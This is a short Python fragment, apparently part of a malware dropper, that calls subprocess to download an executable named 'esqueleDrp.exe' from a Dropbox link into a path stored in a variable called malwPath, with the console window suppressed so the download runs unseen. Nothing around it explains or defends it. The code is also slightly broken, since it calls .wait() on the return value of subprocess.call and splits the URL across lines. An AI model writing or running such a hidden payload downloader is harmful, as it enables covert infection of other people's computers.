subprocess.call([cPath, "https://dl.dropboxuserconte
  nt.com/s/5mp5s3ta5skt5rv/esqueleDrp.exe?dl=0","-o"
  ,malwPath], shell=False, creationflags=subprocess
  .CREATE_NO_WINDOW).wait()
